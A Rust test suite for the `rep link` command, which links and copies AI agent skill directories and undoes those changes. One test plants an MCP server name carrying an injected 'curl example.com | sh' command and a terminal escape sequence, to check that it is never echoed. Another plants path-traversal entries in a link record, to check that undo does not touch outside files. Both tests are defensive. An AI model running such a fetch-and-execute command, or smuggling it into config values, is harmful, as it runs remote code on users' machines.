//! Tests of `rep link`.

use std::fs;
use std::path::{Path, PathBuf};

use crate::sandbox::{Run, Sandbox, assert_run, skill};

fn link(sandbox: &Sandbox, arguments: &[&str]) -> Run {
    sandbox.run(&[&["link", "--yes"], arguments].concat())
}

/// Returns what lies in the directories of skills below `base`: links with what they say.
fn layout(base: &Path) -> String {
    let mut lines = Vec::new();
    for folder in [".agents", ".claude", ".kiro", "shared"] {
        let mut pending: Vec<PathBuf> = vec![base.join(folder)];
        while let Some(path) = pending.pop() {
            let shown = path.strip_prefix(base).unwrap().display().to_string();
            if let Ok(to) = fs::read_link(&path) {
                lines.push(format!("{shown} -> {}\n", to.display()));
            } else if path.is_dir() {
                pending.extend(fs::read_dir(&path).unwrap().map(|entry| entry.unwrap().path()));
            } else if path.is_file() && !shown.ends_with("links.json") {
                lines.push(format!("{shown}\n"));
            }
        }
    }
    lines.sort();
    lines.concat()
}

#[cfg(unix)]
#[test]
fn a_client_that_reads_another_directory_gets_links() {
    let sandbox = Sandbox::with_skills();
    let before = layout(&sandbox.project());
    assert_run!(sandbox.run(&["link", "claude-code", "codex"]), @r#"
    exit 1
    --- stdout
    + .claude/skills/alpha -> ../../.agents/skills/alpha
    + .claude/skills/beta -> ../../.agents/skills/beta
    --- stderr
    error: nothing was changed; 2 would be made
    hint: `--yes` does it without asking
    "#);
    assert_eq!(layout(&sandbox.project()), before);
    assert_run!(link(&sandbox, &["claude-code", "codex"]), @r#"
    exit 0
    --- stdout
    + .claude/skills/alpha -> ../../.agents/skills/alpha
    + .claude/skills/beta -> ../../.agents/skills/beta
    2 linked
    --- stderr
    "#);
    insta::assert_snapshot!(layout(&sandbox.project()), @r#"
    .agents/skills/alpha/SKILL.md
    .agents/skills/alpha/references/guide.md
    .agents/skills/alpha/scripts/run.sh
    .agents/skills/beta/SKILL.md
    .claude/skills/alpha -> ../../.agents/skills/alpha
    .claude/skills/beta -> ../../.agents/skills/beta
    "#);
    insta::assert_snapshot!(sandbox.read(".agents/.repertoire-links.json"), @r#"
    {
      "kind": "links",
      "version": 2,
      "entries": [
        {
          "path": ".claude/skills/alpha",
          "to": "../../.agents/skills/alpha",
          "clients": [
            "claude-code"
          ]
        },
        {
          "path": ".claude/skills/beta",
          "to": "../../.agents/skills/beta",
          "clients": [
            "claude-code"
          ]
        }
      ]
    }
    "#);
    assert_eq!(link(&sandbox, &["claude-code", "codex"]).stdout, "everything is linked already\n");
    // The library is the same: both ways lead to one skill.
    assert!(sandbox.run(&["doctor", "--verbose"]).stdout.contains("2 active, 0 shadowed, 0 quarantined"));
    assert!(
        sandbox.run(&["undo", "--yes"]).stdout.contains("\n- .claude/skills/beta\n- .claude/skills/alpha\n")
    );
    assert_eq!(layout(&sandbox.project()), before);
    assert!(!sandbox.project().join(".agents/.repertoire-links.json").try_exists().unwrap());
    assert_eq!(sandbox.run(&["undo"]).stdout, "there is nothing to undo\n");
}

#[cfg(unix)]
#[test]
fn skills_that_lie_elsewhere_get_the_one_place() {
    let sandbox = Sandbox::new();
    sandbox.write("repertoire.toml", "roots = [\"shared\"]\n");
    sandbox.write("shared/gamma/SKILL.md", skill("gamma", "x\n"));
    sandbox.write(".claude/skills/delta/SKILL.md", skill("delta", "x\n"));
    sandbox.write("../home/.agents/skills/mine/SKILL.md", skill("mine", "x\n"));
    assert_run!(link(&sandbox, &["claude-code", "codex"]), @r#"
    exit 0
    --- stdout
    + .agents/skills/delta -> ../../.claude/skills/delta
    + .agents/skills/gamma -> ../../shared/gamma
    + .claude/skills/gamma -> ../../.agents/skills/gamma
    3 linked
    --- stderr
    hint: skills that lie outside were not linked: 1; run it with --user, or name them with --skill
    "#);
    insta::assert_snapshot!(layout(&sandbox.project()), @r#"
    .agents/skills/delta -> ../../.claude/skills/delta
    .agents/skills/gamma -> ../../shared/gamma
    .claude/skills/delta/SKILL.md
    .claude/skills/gamma -> ../../.agents/skills/gamma
    shared/gamma/SKILL.md
    "#);
    // One client less: what is still needed stays.
    fs::remove_file(sandbox.project().join("../home/.local/state/repertoire/changes.json")).unwrap();
    assert_eq!(sandbox.undo("rep link claude-code").code, 0);
    insta::assert_snapshot!(layout(&sandbox.project()), @r#"
    .agents/skills/delta -> ../../.claude/skills/delta
    .agents/skills/gamma -> ../../shared/gamma
    .claude/skills/delta/SKILL.md
    shared/gamma/SKILL.md
    "#);
    assert_eq!(sandbox.undo("rep link").code, 0);
    insta::assert_snapshot!(layout(&sandbox.project()), @r#"
    .claude/skills/delta/SKILL.md
    shared/gamma/SKILL.md
    "#);
}

#[cfg(unix)]
#[test]
fn a_user_has_links_too() {
    let sandbox = Sandbox::with_skills();
    sandbox.write("../home/.agents/skills/mine/SKILL.md", skill("mine", "x\n"));
    sandbox.write("../home/.claude/x", "");
    assert_run!(link(&sandbox, &["--user"]), @r#"
    exit 0
    --- stdout
    + .claude/skills/mine -> ../../.agents/skills/mine
    1 linked
    --- stderr
    hint: skills that lie in the project were not linked: 2; run it with --project, or name them with --skill
    "#);
    insta::assert_snapshot!(layout(&sandbox.home()), @r#"
    .agents/skills/mine/SKILL.md
    .claude/skills/mine -> ../../.agents/skills/mine
    .claude/x
    "#);
    // What is named is linked wherever it lies.
    assert_eq!(link(&sandbox, &["--user", "--skill", "alpha", "claude-code"]).code, 0);
    let to = fs::read_link(sandbox.home().join(".agents/skills/alpha")).unwrap();
    assert_eq!(to, sandbox.project().join(".agents/skills/alpha"));
}

#[cfg(unix)]
#[test]
fn link_does_not_overwrite_existing_entries() {
    use std::os::unix::fs::symlink;

    let sandbox = Sandbox::with_skills();
    sandbox.write(".agents/skills/gamma/SKILL.md", skill("gamma", "x\n"));
    sandbox.write(".claude/skills/alpha/notes.md", "mine\n");
    symlink("../../.agents/skills/alpha", sandbox.project().join(".claude/skills/beta")).unwrap();
    symlink("../../.agents/skills/gamma", sandbox.project().join(".claude/skills/gamma")).unwrap();
    assert_run!(link(&sandbox, &["claude-code"]), @r#"
    exit 1
    --- stdout
    --- stderr
    left alone: .claude/skills/beta is a link to ../../.agents/skills/alpha
    "#);
    insta::assert_snapshot!(layout(&sandbox.project()), @r#"
    .agents/skills/alpha/SKILL.md
    .agents/skills/alpha/references/guide.md
    .agents/skills/alpha/scripts/run.sh
    .agents/skills/beta/SKILL.md
    .agents/skills/gamma/SKILL.md
    .claude/skills/alpha/notes.md
    .claude/skills/beta -> ../../.agents/skills/alpha
    .claude/skills/gamma -> ../../.agents/skills/gamma
    "#);
    // A link that was right before is not ours to remove.
    assert_eq!(sandbox.run(&["undo"]).stdout, "there is nothing to undo\n");
}

#[cfg(unix)]
#[test]
fn directories_that_are_empty_after_undo_go() {
    let sandbox = Sandbox::new();
    let there = |path: &str| sandbox.project().join(path).is_dir();
    sandbox.write("shared/alpha/SKILL.md", skill("alpha", "x\n"));
    sandbox.write("repertoire.toml", "roots = [\"shared\"]\n");
    assert_eq!(link(&sandbox, &["claude-code"]).code, 0);
    assert!(there(".claude/skills") && there(".agents/skills"));
    assert_eq!(sandbox.run(&["undo", "--yes"]).code, 0);
    assert!(!there(".claude") && !there(".agents"), "{}", layout(&sandbox.project()));
    // What holds something else stays.
    assert_eq!(link(&sandbox, &["claude-code"]).code, 0);
    sandbox.write(".claude/settings.json", "{}");
    assert_eq!(sandbox.run(&["undo", "--yes"]).code, 0);
    assert!(there(".claude") && !there(".claude/skills") && !there(".agents"));
}

#[cfg(unix)]
#[test]
fn links_to_missing_skills_are_reported() {
    let sandbox = Sandbox::with_skills();
    assert_eq!(link(&sandbox, &["claude-code"]).code, 0);
    let told = || sandbox.run(&["doctor", "--verbose"]).stdout;
    assert!(!told().contains("nowhere"));
    fs::remove_dir_all(sandbox.project().join(".agents/skills/beta")).unwrap();
    let told = told();
    assert!(told.contains("1 link leads nowhere: .claude/skills/beta\n"), "{told}");
    assert!(told.contains("by their number in `rep undo --list`"), "{told}");
}

#[cfg(unix)]
#[test]
fn undo_removes_only_links_that_link_made() {
    use std::os::unix::fs::symlink;

    let sandbox = Sandbox::with_skills();
    assert_eq!(link(&sandbox, &["claude-code"]).code, 0);
    let path = sandbox.project().join(".claude/skills/alpha");
    fs::remove_file(&path).unwrap();
    symlink("/somewhere/else", &path).unwrap();
    let run = sandbox.run(&["undo", "--yes"]);
    assert!(run.code == 1 && run.stdout.contains("\n- .claude/skills/beta\n"), "{}", run.stdout);
    let left = "left alone: [DIR]/project/.claude/skills/alpha: was changed since it was made\n";
    assert_eq!(run.stderr, left);
    assert!(path.is_symlink());
    // A record that came with a clone is believed about links in directories of skills alone.
    symlink("target", sandbox.project().join("precious")).unwrap();
    symlink("target", sandbox.home().join("precious")).unwrap();
    let lines = ["precious", "../home/precious", ".claude/skills/../../precious"];
    let lines = lines.map(|path| serde_json::json!({"path": path, "to": "target", "clients": ["codex"]}));
    let record = serde_json::json!({"version": 1, "links": lines}).to_string();
    sandbox.write(".agents/.repertoire-links.json", record);
    assert_eq!(sandbox.undo("rep link codex").code, 1);
    assert!(sandbox.project().join("precious").is_symlink() && sandbox.home().join("precious").is_symlink());
    sandbox.write(".agents/.repertoire-links.json", "{");
    assert_eq!(link(&sandbox, &["claude-code"]).code, 1);
}

#[test]
fn copies_where_they_are_wanted() {
    let sandbox = Sandbox::with_skills();
    assert_run!(link(&sandbox, &["--copy", "--skill", "alpha", "claude-code"]), @r#"
    exit 0
    --- stdout
    + .claude/skills/alpha (a copy of .agents/skills/alpha)
    1 copied
    --- stderr
    "#);
    insta::assert_snapshot!(layout(&sandbox.project()), @r#"
    .agents/skills/alpha/SKILL.md
    .agents/skills/alpha/references/guide.md
    .agents/skills/alpha/scripts/run.sh
    .agents/skills/beta/SKILL.md
    .claude/skills/alpha/SKILL.md
    .claude/skills/alpha/references/guide.md
    .claude/skills/alpha/scripts/run.sh
    "#);
    assert_eq!(sandbox.read(".claude/skills/alpha/references/guide.md"), "one\ntwo\nthree\n");
    let again = link(&sandbox, &["--copy", "--skill", "alpha", "claude-code"]);
    assert_eq!((again.code, again.stdout.as_str()), (0, "everything is linked already\n"));
    sandbox.write(".agents/skills/alpha/references/guide.md", "newer\n");
    let stale = link(&sandbox, &["--copy", "--skill", "alpha", "claude-code"]);
    assert_eq!(stale.code, 1);
    assert!(stale.stderr.contains("is a copy of what the skill was"), "{}", stale.stderr);
    // A copy that was changed stays.
    sandbox.write(".claude/skills/alpha/references/guide.md", "changed\n");
    assert_eq!(sandbox.run(&["undo", "--yes"]).code, 1);
    assert_eq!(sandbox.read(".claude/skills/alpha/references/guide.md"), "changed\n");
    fs::remove_dir_all(sandbox.project().join(".claude")).unwrap();
    assert_eq!(link(&sandbox, &["--copy", "--skill", "alpha", "claude-code"]).code, 0);
    // Nor is anything lost that was put beside.
    sandbox.write(".claude/skills/alpha/.hidden", "mine\n");
    assert_eq!(sandbox.run(&["undo", "--yes"]).code, 0);
    assert_eq!(sandbox.read(".claude/skills/alpha/.hidden"), "mine\n");
    assert!(!sandbox.project().join(".claude/skills/alpha/SKILL.md").try_exists().unwrap());
}

#[test]
fn link_warns_of_clients_that_read_two_directories() {
    let sandbox = Sandbox::with_skills();
    sandbox.write("../home/.cursor/argv.json", "{}\n");
    sandbox.write("../home/.claude.json", "{}\n");
    assert!(!sandbox.run(&["doctor", "--verbose"]).stdout.contains("more than once"));
    // Claude Code reads no other directory, so there is no better choice; it is told before anything is made.
    let words = "Cursor offers 2 skills more than once, because it reads [DIR]/project/.agents/skills and [DIR]/project/.claude/skills";
    let run = sandbox.run(&["link"]);
    assert_eq!(run.code, 1);
    assert!(run.stderr.starts_with(&format!("warning: with these links {words}\nhint: ")), "{}", run.stderr);
    let answer: serde_json::Value =
        serde_json::from_str(&sandbox.run(&["link", "--dry-run", "--json"]).stdout).unwrap();
    assert_eq!(answer["warnings"].as_array().unwrap().len(), 1);
    assert_eq!(link(&sandbox, &["claude-code"]).code, 0);
    let run = sandbox.run(&["doctor", "--verbose"]);
    assert!(run.stdout.contains(words), "{}", run.stdout);
    assert!(run.stdout.contains("`rep undo --list`, then run `rep connect claude-code`"), "{}", run.stdout);
    // What is there already is the business of `rep doctor`.
    assert_eq!(link(&sandbox, &[]).stderr, "");
}

#[cfg(unix)]
#[test]
fn links_lead_through_the_one_place_with_a_warning_where_a_client_reads_both() {
    let sandbox = Sandbox::new();
    sandbox.write("repertoire.toml", "roots = [\"shared\"]\n");
    sandbox.write("shared/gamma/SKILL.md", skill("gamma", "x\n"));
    sandbox.write("../home/.cursor/argv.json", "{}\n");
    sandbox.write("../home/.claude.json", "{}\n");
    assert_run!(link(&sandbox, &[]), @r#"
    exit 0
    --- stdout
    + .agents/skills/gamma -> ../../shared/gamma
    + .claude/skills/gamma -> ../../.agents/skills/gamma
    2 linked
    --- stderr
    warning: with these links Cursor offers 1 skill more than once, because it reads [DIR]/project/.agents/skills and [DIR]/project/.claude/skills
    hint: only Claude Code needs [DIR]/project/.claude/skills: `rep connect claude-code` instead gives every client each skill once
    "#);
    assert!(sandbox.run(&["doctor", "--verbose"]).stdout.contains("more than once"));
    assert_eq!(link(&sandbox, &[]).stdout, "everything is linked already\n");
    // The one place is for both, so one of them does not take it from the other.
    fs::remove_file(sandbox.project().join("../home/.local/state/repertoire/changes.json")).unwrap();
    assert!(sandbox.undo("rep link claude-code").stdout.contains("\n- .claude/skills/gamma\n"));
    assert!(sandbox.undo("rep link").stdout.contains("\n- .agents/skills/gamma\n"));
    insta::assert_snapshot!(layout(&sandbox.project()), @"shared/gamma/SKILL.md");
    // A client that is connected needs no links.
    assert_eq!(sandbox.run(&["connect", "--yes", "cursor"]).code, 0);
    let run = link(&sandbox, &[]);
    assert!(run.stdout.contains("+ .claude/skills/gamma"), "{}", run.stdout);
    assert!(run.stderr.contains("left out: Cursor is connected"), "{}", run.stderr);
}

#[cfg(unix)]
#[test]
fn directories_that_lead_out_of_the_project_get_no_links() {
    use std::os::unix::fs::symlink;

    // Gemini reads `.agents/skills` too, so only Kiro is left out. For Cursor there is no better choice then.
    let sandbox = Sandbox::new();
    sandbox.write("shared/gamma/SKILL.md", skill("gamma", "x\n"));
    for folder in [".gemini", ".kiro"] {
        symlink("../home", sandbox.project().join(folder)).unwrap();
    }
    let arguments = ["--root", "shared", "claude-code", "cursor", "gemini", "kiro"];
    assert_run!(link(&sandbox, &arguments), @r#"
    exit 1
    --- stdout
    + .agents/skills/gamma -> ../../shared/gamma
    + .claude/skills/gamma -> ../../.agents/skills/gamma
    2 linked
    --- stderr
    warning: with these links Cursor offers 1 skill more than once, because it reads [DIR]/project/.agents/skills and [DIR]/project/.claude/skills
    hint: only Claude Code needs [DIR]/project/.claude/skills: `rep connect claude-code` instead gives every client each skill once
    left out: [DIR]/project/.kiro/skills leads out of the project
    "#);
}

#[test]
fn a_client_is_offered_skills_one_way() {
    let sandbox = Sandbox::with_skills();
    assert_eq!(sandbox.run(&["connect", "--yes", "--project", "claude-code"]).code, 0);
    assert_run!(link(&sandbox, &["claude-code"]), @r#"
    exit 1
    --- stdout
    --- stderr
    left out: Claude Code is connected to the MCP server, which offers it every skill, and needs no links unless they are forced
    "#);
    // Who insists is told of Cursor.
    sandbox.write("../home/.cursor/argv.json", "{}\n");
    let run = link(&sandbox, &["--force", "claude-code"]);
    assert_eq!(run.code, 0);
    insta::assert_snapshot!(run.stderr, @r#"
    warning: with these links Cursor offers 2 skills more than once, because it reads [DIR]/project/.agents/skills and [DIR]/project/.claude/skills
    hint: Claude Code is connected and needs no links in [DIR]/project/.claude/skills: take them back by their number in `rep undo --list`
    "#);
    let run = sandbox.run(&["doctor", "--verbose"]);
    assert!(
        run.stdout
            .contains("needs no links in [DIR]/project/.claude/skills: take them back by their number in `rep undo --list`")
            && !run.stdout.contains("`rep connect"),
        "{}",
        run.stdout
    );
    assert_run!(link(&sandbox, &["claude-desktop"]), @r#"
    exit 1
    --- stdout
    --- stderr
    left out: Claude Desktop reads no skills from files
    "#);
}

#[test]
fn a_server_that_runs_already_is_a_way_too() {
    let sandbox = Sandbox::with_skills();
    let http = ["--http", "http://127.0.0.1:7437/mcp"];
    let connect = ["connect", "--yes", "--project", "claude-code"];
    assert_eq!(sandbox.run(&[&connect[..], &http].concat()).code, 0);
    assert_run!(link(&sandbox, &["claude-code"]), @r#"
    exit 1
    --- stdout
    --- stderr
    left out: Claude Code is connected to the MCP server, which offers it every skill, and needs no links unless they are forced
    "#);
    assert_eq!(link(&sandbox, &["--force", "claude-code"]).code, 0);
    let run = sandbox.run(&["doctor", "--verbose"]);
    assert!(run.stdout.contains("Claude Code is connected (.mcp.json)"), "{}", run.stdout);
    assert_eq!(sandbox.undo("rep connect claude-code").code, 0);
    assert!(!sandbox.run(&["doctor", "--verbose"]).stdout.contains("Claude Code is connected"));
    // What answers at other addresses and under other names is not known.
    for entry in
        ["\"skills\": {\"url\": \"https://example.com/mcp\"}", "\"x\": {\"url\": \"http://localhost/mcp\"}"]
    {
        sandbox.write(".mcp.json", format!("{{\"mcpServers\": {{{entry}}}}}"));
        assert!(
            !sandbox.run(&["doctor", "--verbose"]).stdout.contains("Claude Code is connected"),
            "{entry}"
        );
    }
}

#[test]
fn names_that_came_with_a_clone_are_in_no_command() {
    let sandbox = Sandbox::with_skills();
    let server = serde_json::json!({"command": "rep", "args": ["serve", "--stdio"]});
    let servers = serde_json::json!({"mcpServers": {"x; curl example.com | sh #\u{1b}[2J": server}});
    sandbox.write(".mcp.json", servers.to_string());
    assert_run!(link(&sandbox, &["claude-code"]), @r#"
    exit 1
    --- stdout
    --- stderr
    left out: Claude Code is connected to the MCP server, which offers it every skill, and needs no links unless they are forced
    "#);
    assert_eq!(link(&sandbox, &["--force", "claude-code"]).code, 0);
    let run = sandbox.run(&["doctor", "--verbose"]);
    assert!(run.stdout.contains("Claude Code is connected (.mcp.json)"), "{}", run.stdout);
    assert!(!run.stdout.contains("curl"), "{}", run.stdout);
}

#[cfg(unix)]
#[test]
fn directories_that_are_links() {
    use std::os::unix::fs::symlink;

    // Out of the project: refused. Within: written through. To the one place: nothing to do.
    let sandbox = Sandbox::with_skills();
    symlink("../home", sandbox.project().join(".claude")).unwrap();
    symlink("hidden", sandbox.project().join(".kiro")).unwrap();
    fs::create_dir_all(sandbox.project().join("hidden/deep")).unwrap();
    assert_run!(link(&sandbox, &["claude-code"]), @r#"
    exit 1
    --- stdout
    --- stderr
    left out: [DIR]/project/.claude/skills leads out of the project
    "#);
    assert_eq!(link(&sandbox, &["kiro"]).code, 0);
    let to = fs::read_link(sandbox.project().join("hidden/skills/alpha")).unwrap();
    assert_eq!(to, Path::new("../../.agents/skills/alpha"));
    fs::remove_file(sandbox.project().join(".claude")).unwrap();
    symlink(".agents", sandbox.project().join(".claude")).unwrap();
    assert_eq!(link(&sandbox, &["claude-code"]).stdout, "everything is linked already\n");
    // A user's directories may lie behind links.
    sandbox.write("../home/.agents/skills/mine/SKILL.md", skill("mine", "x\n"));
    sandbox.write("../home/dotfiles/claude/x", "");
    symlink("dotfiles/claude", sandbox.home().join(".claude")).unwrap();
    assert_eq!(link(&sandbox, &["--user", "claude-code"]).code, 0);
    let to = fs::read_link(sandbox.home().join("dotfiles/claude/skills/mine")).unwrap();
    assert_eq!(to, Path::new("../../../.agents/skills/mine"));
    assert!(sandbox.home().join(".claude/skills/mine/SKILL.md").is_file());
}

/// Returns the digest that the record has of the only copy.
fn recorded_digest(sandbox: &Sandbox) -> String {
    let record: serde_json::Value =
        serde_json::from_str(&sandbox.read(".agents/.repertoire-links.json")).unwrap();
    record["entries"][0]["digest"].as_str().unwrap().to_owned()
}

#[cfg(unix)]
#[test]
fn undo_does_not_follow_links_out_of_the_project() {
    use std::os::unix::fs::symlink;

    // The digest of a skill that everybody has is known to everybody.
    let model = Sandbox::with_skills();
    assert_eq!(link(&model, &["--copy", "--skill", "alpha", "claude-code"]).code, 0);
    let digest = recorded_digest(&model);
    for made in [serde_json::json!({"digest": digest}), serde_json::json!({"to": "../../mine/alpha"})] {
        let is_copy = made["digest"].is_string();
        let record = |path: &str| {
            let mut made = made.clone();
            (made["path"], made["clients"]) = (path.into(), serde_json::json!(["claude-code"]));
            serde_json::json!({"version": 1, "links": [made]}).to_string()
        };
        let prepare = |folder: &str| {
            let sandbox = Sandbox::new();
            let skills = sandbox.home().join(folder).join("skills");
            fs::create_dir_all(&skills).unwrap();
            if is_copy {
                let copied = model.project().join(".claude/skills/alpha");
                for file in ["SKILL.md", "references/guide.md", "scripts/run.sh"] {
                    let target = skills.join("alpha").join(file);
                    fs::create_dir_all(target.parent().unwrap()).unwrap();
                    fs::copy(copied.join(file), target).unwrap();
                }
            } else {
                symlink("../../mine/alpha", skills.join("alpha")).unwrap();
            }
            symlink(format!("../home/{folder}"), sandbox.project().join(folder)).unwrap();
            sandbox
        };
        // The directory of a client leads out.
        let sandbox = prepare(".claude");
        sandbox.write(".agents/.repertoire-links.json", record(".claude/skills/alpha"));
        let before = layout(&sandbox.home());
        let run = sandbox.undo("rep link");
        assert_eq!(run.code, 1);
        assert_eq!(run.stderr, "left alone: [DIR]/project/.claude/skills/alpha: leads out of the project\n");
        assert_eq!(layout(&sandbox.home()), before);
        // It would have gone, were it not for the link.
        fs::remove_file(sandbox.project().join(".claude")).unwrap();
        fs::rename(sandbox.home().join(".claude"), sandbox.project().join(".claude")).unwrap();
        sandbox.write(".agents/.repertoire-links.json", record(".claude/skills/alpha"));
        assert!(sandbox.undo("rep link").stdout.contains("\n- .claude/skills/alpha\n"));
        // The one place leads out, and the record with it.
        let sandbox = prepare(".agents");
        let (before, record) = (layout(&sandbox.home()), record(".agents/skills/alpha"));
        sandbox.write("../home/.agents/.repertoire-links.json", &record);
        assert!(!sandbox.run(&["undo", "--list"]).stdout.contains("[DIR]/project"));
        assert_eq!(layout(&sandbox.home()), before);
        assert_eq!(sandbox.read("../home/.agents/.repertoire-links.json"), record);
    }
}

#[cfg(unix)]
#[test]
fn a_link_that_is_made_again_is_recorded_again() {
    let sandbox = Sandbox::with_skills();
    assert_eq!(link(&sandbox, &["--skill", "alpha", "claude-code"]).code, 0);
    // A copy in the place of a link.
    fs::remove_file(sandbox.project().join(".claude/skills/alpha")).unwrap();
    assert_eq!(link(&sandbox, &["--copy", "--skill", "alpha", "claude-code"]).code, 0);
    let first = recorded_digest(&sandbox);
    // A copy in the place of another.
    fs::remove_dir_all(sandbox.project().join(".claude")).unwrap();
    sandbox.write(".agents/skills/alpha/references/guide.md", "newer\n");
    assert_eq!(link(&sandbox, &["--copy", "--skill", "alpha", "claude-code"]).code, 0);
    assert_ne!(recorded_digest(&sandbox), first);
    assert!(sandbox.run(&["undo", "--yes"]).stdout.contains("\n- .claude/skills/alpha\n"));
    assert!(!sandbox.project().join(".claude/skills/alpha").try_exists().unwrap());
}

#[cfg(unix)]
#[test]
fn print_changes_nothing() {
    let sandbox = Sandbox::with_skills();
    assert_eq!(link(&sandbox, &["claude-code"]).code, 0);
    let path = ".agents/.repertoire-links.json";
    let record = sandbox.read(path);
    // What is gone would be forgotten, were it not for --dry-run.
    fs::remove_dir_all(sandbox.project().join(".claude/skills")).unwrap();
    assert_eq!(sandbox.run(&["undo", "--dry-run"]).code, 0);
    assert_eq!(sandbox.read(path), record);
    assert_eq!(sandbox.run(&["undo", "--yes"]).code, 0);
    assert!(!sandbox.project().join(path).try_exists().unwrap());
}

#[cfg(unix)]
#[test]
fn a_copy_is_there_as_a_whole_or_not_at_all() {
    use std::os::unix::fs::PermissionsExt as _;

    let sandbox = Sandbox::with_skills();
    // More than is read of a file.
    let file = fs::File::create(sandbox.project().join(".agents/skills/alpha/scripts/zz.bin")).unwrap();
    file.set_len(1 << 40).unwrap();
    let run = link(&sandbox, &["--copy", "--skill", "alpha", "claude-code"]);
    assert!(run.code != 0 && run.stderr.contains("zz.bin"), "{}", run.stderr);
    assert!(!sandbox.project().join(".claude").try_exists().unwrap());
    assert!(!sandbox.project().join(".agents/.repertoire-links.json").try_exists().unwrap());
    fs::remove_file(sandbox.project().join(".agents/skills/alpha/scripts/zz.bin")).unwrap();
    let script = sandbox.project().join(".agents/skills/alpha/scripts/run.sh");
    fs::set_permissions(&script, fs::Permissions::from_mode(0o755)).unwrap();
    assert_eq!(link(&sandbox, &["--copy", "--skill", "alpha", "claude-code"]).code, 0);
    let copied = fs::metadata(sandbox.project().join(".claude/skills/alpha/scripts/run.sh")).unwrap();
    assert_eq!(copied.permissions().mode() & 0o111, 0o111);
    // The digest is the skill's own.
    let digest = recorded_digest(&sandbox);
    assert_eq!(link(&sandbox, &["--copy", "--skill", "alpha", "claude-code"]).code, 0);
    assert_eq!(recorded_digest(&sandbox), digest);
    assert_eq!(sandbox.run(&["undo", "--yes"]).code, 0);
}

#[test]
fn links_that_are_there_need_no_directory_of_state() {
    let mut sandbox = Sandbox::with_skills();
    assert_eq!(link(&sandbox, &["claude-code"]).code, 0);
    // Nothing can be made in a file, not even by root.
    sandbox.write("file", "");
    let state = sandbox.project().join("file/state");
    sandbox.set("REPERTOIRE_STATE_DIR", state.to_str().unwrap());
    let run = link(&sandbox, &["claude-code"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
}
